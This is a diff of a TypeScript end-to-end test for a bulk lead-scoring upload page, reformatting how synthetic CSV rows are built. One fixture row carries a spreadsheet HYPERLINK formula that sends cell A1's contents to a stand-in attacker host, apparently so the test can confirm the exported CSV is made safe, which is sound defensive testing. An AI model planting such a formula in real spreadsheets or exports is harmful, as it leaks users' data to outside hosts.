@@ -19,7 +19,13 @@ const BAD = [5, 777, 1500]; // rows without summary or industry
 const HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"点击")';
 
 function rows(): string[][] {
-  return syntheticLeads(demoSeed(), N, 5).map((l, i) => [l.name!, BAD.includes(i + 1) ? '' : l.summary!, String(l.floorAreaM2 ?? ''), i === 1 ? '约一千万?' : String(l.investmentWan ?? ''), i === 0 ? HYPERLINK : '']);
+  return syntheticLeads(demoSeed(), N, 5).map((l, i) => [
+    l.name!,
+    BAD.includes(i + 1) ? '' : l.summary!,
+    String(l.floorAreaM2 ?? ''),
+    i === 1 ? '约一千万?' : String(l.investmentWan ?? ''),
+    i === 0 ? HYPERLINK : '',
+  ]);
 }
 
 beforeAll(async () => {
@@ -47,7 +53,9 @@ async function uploadAndWait(path: string) {
 describe('the bulk scoring page', () => {
   it('scores a GBK CSV: progress to 100 %, exactly the bad rows listed, a safe CSV download', async () => {
     const header = '项目名称,项目简介,面积需求(平方米),总投资(万元),备注';
-    const csv = [header, ...rows().map((r) => r.map((c) => (/[",\n]/.test(c) ? `"${c.replaceAll('"', '""')}"` : c)).join(','))].join('\r\n');
+    const csv = [header, ...rows().map((r) => r.map((c) => (/[",\n]/.test(c) ? `"${c.replaceAll('"', '""')}"` : c)).join(','))].join(
+      '\r\n',
+    );
     const file = join(ARTIFACTS, 'leads-gbk.csv');
     writeFileSync(file, iconv.encode(csv, 'gbk'));
     await uploadAndWait(file);
